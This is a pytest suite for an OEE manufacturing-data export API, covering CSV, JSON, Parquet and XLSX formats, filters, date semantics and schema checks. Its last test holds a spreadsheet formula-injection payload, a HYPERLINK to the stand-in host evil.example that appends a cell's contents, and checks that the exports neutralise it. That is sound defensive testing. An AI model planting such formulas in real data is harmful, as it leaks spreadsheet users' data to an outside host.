"""The OEE export endpoints: the seed's acceptance scenario, every format, filters and date semantics."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import jsonschema
import openpyxl
import psycopg
import pyarrow as pa
import pyarrow.parquet as pq
from fastapi.testclient import TestClient

from oee_pipelines.exports.columns import DATA_MART, DOWNTIME, SNAPSHOTS

SEED_COLUMNS = [
    "snapshot_time", "machine_id", "machine_name", "oee_pct", "availability_pct", "performance_pct",
    "quality_pct", "shift_id",
]  # fmt: skip
THIRTY_DAYS = {"date_from": "2025-01-01", "date_to": "2025-01-30"}
DOWNTIME_COLUMNS = DOWNTIME.column_names


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_thirty_days_of_one_machine_as_csv_is_the_seed_scenario(client: TestClient, acme: dict) -> None:
    response = client.get(
        "/api/oee/export/snapshots",
        params={"format": "csv", "machine_id": "MACHINE-A01", **THIRTY_DAYS},
        headers=acme,
    )
    assert response.status_code == 200, response.text
    today = datetime.now(UTC).date().isoformat()
    assert response.headers["content-disposition"] == f'attachment; filename="OEE_Snapshots_{today}.csv"'
    assert response.headers["content-type"].startswith("text/csv")
    rows = csv_rows(response.text)
    assert rows[0] == SEED_COLUMNS
    assert len(rows) - 1 == 2880
    assert rows[1][:3] == ["2025-01-01T00:00:00Z", "MACHINE-A01", 'Filler, "north"']
    assert rows[-1][0] == "2025-01-30T23:45:00Z"
    assert rows[2][3:7] == ["41.001", "90.5", "95.25", "99.125"]
    assert rows[1][3:7] == ["", "", "", ""]  # nothing planned: NULL, an empty field


def test_other_tables_are_named_the_same_way(client: TestClient, acme: dict) -> None:
    today = datetime.now(UTC).date().isoformat()
    for path, title in (
        ("downtime", "OEE_Downtime"),
        ("shift-reports", "OEE_Shift_Reports"),
        ("data-mart", "OEE_Data_Mart"),
    ):
        response = client.get(
            f"/api/oee/export/{path}", params={"format": "json", **THIRTY_DAYS}, headers=acme
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-disposition"] == f'attachment; filename="{title}_{today}.json"'


def test_include_headers_false_leaves_out_the_header(client: TestClient, acme: dict) -> None:
    params = {"machine_id": "MACHINE-A02", "include_headers": "false", **THIRTY_DAYS}
    rows = csv_rows(client.get("/api/oee/export/snapshots", params=params, headers=acme).text)
    assert len(rows) == 96
    assert rows[0][1] == "MACHINE-A02"


def test_a_date_upper_bound_includes_its_day_and_a_datetime_bound_is_excluded(
    client: TestClient, acme: dict
) -> None:
    def count(date_from: str, date_to: str) -> int:
        params = {
            "machine_id": "MACHINE-A01",
            "date_from": date_from,
            "date_to": date_to,
            "include_headers": "false",
        }
        response = client.get("/api/oee/export/snapshots", params=params, headers=acme)
        assert response.status_code == 200, response.text
        return len(csv_rows(response.text))

    assert count("2025-01-05", "2025-01-05") == 96
    assert count("2025-01-05T00:00:00Z", "2025-01-06T00:00:00Z") == 96
    # Power BI incremental refresh: consecutive half-open windows neither overlap nor leave gaps.
    assert (
        count("2025-01-05T00:00:00Z", "2025-01-05T12:00:00Z")
        + count("2025-01-05T12:00:00Z", "2025-01-06T00:00:00Z")
        == 96
    )
    assert count("2025-01-05T01:00:00+01:00", "2025-01-05T00:30:00Z") == 2  # offsets are honoured


def test_filters_by_line_and_shift(client: TestClient, acme: dict) -> None:
    base = {"format": "json", "date_from": "2025-01-01", "date_to": "2025-01-01"}
    by_line = client.get(
        "/api/oee/export/snapshots", params={**base, "line_id": "LINE-A2"}, headers=acme
    ).json()
    assert {row["machine_id"] for row in by_line} == {"MACHINE-A02"}
    by_shift = client.get(
        "/api/oee/export/snapshots", params={**base, "shift_id": "SHIFT-A1"}, headers=acme
    ).json()
    assert len(by_shift) == 2 * 32  # two machines, 06:00-13:45
    assert {row["shift_id"] for row in by_shift} == {"SHIFT-A1"}


def test_downtime_include_resolved_and_text_survives_csv(client: TestClient, acme: dict) -> None:
    everything = client.get("/api/oee/export/downtime", params=THIRTY_DAYS, headers=acme)
    rows = csv_rows(everything.text)
    assert len(rows) == 4
    assert rows[1][10] == 'jam, belt "B"\nsecond line'
    assert rows[2][1] == "" and rows[2][10] == ""  # an open stop; NULL end, empty description
    only_open = client.get(
        "/api/oee/export/downtime",
        params={**THIRTY_DAYS, "format": "json", "include_resolved": "false"},
        headers=acme,
    ).json()
    assert [event["reason_code"] for event in only_open] == ["BREAK"]
    assert only_open[0]["is_resolved"] is False and only_open[0]["end_time"] is None


def test_shift_reports_by_status(client: TestClient, acme: dict) -> None:
    final = client.get(
        "/api/oee/export/shift-reports",
        params={**THIRTY_DAYS, "format": "json", "status": "final"},
        headers=acme,
    ).json()
    assert [(r["shift_id"], r["shift_date"], r["oee_pct"]) for r in final] == [
        ("SHIFT-A1", "2025-01-02", 81.5)
    ]


def test_data_mart_limit(client: TestClient, acme: dict) -> None:
    rows = client.get(
        "/api/oee/export/data-mart", params={**THIRTY_DAYS, "format": "json", "limit": 5}, headers=acme
    ).json()
    assert len(rows) == 5
    assert rows[1]["wo_number"] == "WO-000001" and rows[1]["product_name"] == "Acme soda"
    assert list(rows[0]) == DATA_MART.column_names


def _json_schema(client: TestClient, path: str) -> dict:
    spec = client.get("/openapi.json").json()
    return spec["paths"][path]["get"]["responses"]["200"]["content"]["application/json"]["schema"]


def test_json_exports_validate_against_the_openapi_schema(client: TestClient, acme: dict) -> None:
    for path in ("snapshots", "downtime", "shift-reports", "data-mart"):
        schema = _json_schema(client, f"/api/oee/export/{path}")
        rows = client.get(
            f"/api/oee/export/{path}", params={**THIRTY_DAYS, "format": "json"}, headers=acme
        ).json()
        assert rows, path
        jsonschema.Draft202012Validator(schema).validate(rows)
    snapshots = client.get(
        "/api/oee/export/snapshots", params={**THIRTY_DAYS, "format": "json"}, headers=acme
    ).json()
    assert datetime.fromisoformat(snapshots[0]["snapshot_time"]) == datetime(2025, 1, 1, tzinfo=UTC)
    broken = [{**snapshots[0], "oee_pct": "high"}]
    assert not jsonschema.Draft202012Validator(_json_schema(client, "/api/oee/export/snapshots")).is_valid(
        broken
    )


def test_parquet_reads_back_typed_in_pyarrow_and_duckdb(
    client: TestClient, acme: dict, tmp_path: Path
) -> None:
    response = client.get(
        "/api/oee/export/data-mart", params={**THIRTY_DAYS, "format": "parquet"}, headers=acme
    )
    assert response.status_code == 200
    path = tmp_path / "mart.parquet"
    path.write_bytes(response.content)
    table = pq.read_table(path)
    assert table.schema == DATA_MART.arrow_schema
    assert table.num_rows == 2880 + 96
    assert table.schema.field("snapshot_time").type == pa.timestamp("us", tz="UTC")
    assert pq.ParquetFile(path).metadata.row_group(0).column(0).compression == "ZSTD"
    connection = duckdb.connect()
    described = connection.execute(f"DESCRIBE SELECT * FROM read_parquet('{path}')").fetchall()
    types = {name: kind for name, kind, *_ in described}
    assert types["snapshot_time"] == "TIMESTAMP WITH TIME ZONE"
    assert types["oee_pct"] == "DOUBLE" and types["total_pieces"] == "BIGINT"
    first = connection.execute(f"SELECT min(snapshot_time), count(*) FROM read_parquet('{path}')").fetchone()
    assert first == (datetime(2025, 1, 1, tzinfo=UTC), 2880 + 96)


def test_xlsx_opens_in_openpyxl_formatted(client: TestClient, acme: dict, tmp_path: Path) -> None:
    params = {"format": "xlsx", "machine_id": "MACHINE-A02", **THIRTY_DAYS}
    response = client.get("/api/oee/export/snapshots", params=params, headers=acme)
    assert response.status_code == 200, response.text
    path = tmp_path / "snapshots.xlsx"
    path.write_bytes(response.content)
    sheet = openpyxl.load_workbook(path).active
    assert [cell.value for cell in sheet[1]] == SNAPSHOTS.column_names
    assert sheet[1][0].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H97"
    assert sheet.max_row == 97
    assert sheet["A2"].value == datetime(2025, 1, 1) and sheet["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert abs(sheet["D3"].value - 0.41001) < 1e-9 and sheet["D3"].number_format == "0.000%"
    assert sheet.column_dimensions["A"].width >= 20


def test_xlsx_reads_back_the_same_rows_in_libreoffice(client: TestClient, acme: dict, tmp_path: Path) -> None:
    params = {"machine_id": "MACHINE-A02", **THIRTY_DAYS}
    expected = csv_rows(client.get("/api/oee/export/snapshots", params=params, headers=acme).text)
    workbook = tmp_path / "snapshots.xlsx"
    workbook.write_bytes(
        client.get("/api/oee/export/snapshots", params={**params, "format": "xlsx"}, headers=acme).content
    )
    subprocess.run(
        ["libreoffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "csv", "--outdir", str(tmp_path), str(workbook)],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    converted = csv_rows((tmp_path / "snapshots.csv").read_text())
    assert converted[0] == expected[0]
    assert len(converted) == len(expected) == 97
    for got, want in zip(converted[1:], expected[1:], strict=True):
        assert got[0].replace(" ", "T") + "Z" == want[0]
        assert got[1:3] == want[1:3] and got[7] == want[7]
        for got_pct, want_pct in zip(got[3:7], want[3:7], strict=True):
            assert (float(got_pct.rstrip("%")) if got_pct else None) == (
                float(want_pct) if want_pct else None
            )


def test_xlsx_beyond_one_sheet_is_refused_with_a_pointer_to_csv(
    client: TestClient, acme: dict, monkeypatch
) -> None:
    monkeypatch.setattr("oee_pipelines.api.responses.XLSX_MAX_DATA_ROWS", 100)
    response = client.get("/api/oee/export/snapshots", params={**THIRTY_DAYS, "format": "xlsx"}, headers=acme)
    assert response.status_code == 400
    body = response.json()
    assert body["parameter"] == "format"
    assert "format=csv" in body["detail"] and "format=parquet" in body["detail"]


def test_health_and_docs(client: TestClient) -> None:
    assert client.get("/health").json() == {"status": "ok", "warehouse": "ok"}
    assert client.get("/docs").status_code == 200
    spec = client.get("/openapi.json").json()
    params = {p["name"]: p for p in spec["paths"]["/api/oee/export/snapshots"]["get"]["parameters"]}
    assert set(params) >= {
        "format",
        "date_from",
        "date_to",
        "machine_id",
        "line_id",
        "shift_id",
        "include_headers",
    }
    assert params["date_from"]["schema"]["examples"] == ["2025-01-01"]


HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def test_downtime_text_cannot_become_an_excel_formula(
    client: TestClient, acme: dict, database_url: str
) -> None:
    with psycopg.connect(database_url, autocommit=True) as conn:
        conn.execute(
            """INSERT INTO oee_downtime_events (org_id, machine_id, line_id, start_time, duration_minutes,
                   is_planned, reason_code, description, source_system)
               VALUES ('acme', 'MACHINE-A01', 'LINE-A1', '2025-06-15T10:00Z', 1, false, '-2+3', %s,
                       'import')""",
            (HOSTILE_DESCRIPTION,),
        )
    try:
        day = {"date_from": "2025-06-15", "date_to": "2025-06-15"}
        text = client.get("/api/oee/export/downtime", params={**day, "format": "csv"}, headers=acme).text
        row = csv_rows(text)[1]
        assert row[DOWNTIME_COLUMNS.index("description")] == "'" + HOSTILE_DESCRIPTION
        assert row[DOWNTIME_COLUMNS.index("reason_code")] == "'-2+3"
        workbook = client.get(
            "/api/oee/export/downtime", params={**day, "format": "xlsx"}, headers=acme
        ).content
        cell = openpyxl.load_workbook(io.BytesIO(workbook)).active.cell(
            row=2, column=DOWNTIME_COLUMNS.index("description") + 1
        )
        assert (cell.value, cell.data_type) == (HOSTILE_DESCRIPTION, "s")
        rows = client.get("/api/oee/export/downtime", params={**day, "format": "json"}, headers=acme).json()
        assert rows[0]["description"] == HOSTILE_DESCRIPTION  # JSON is data: unchanged
    finally:
        with psycopg.connect(database_url, autocommit=True) as conn:
            conn.execute("DELETE FROM oee_downtime_events WHERE start_time = '2025-06-15T10:00Z'")
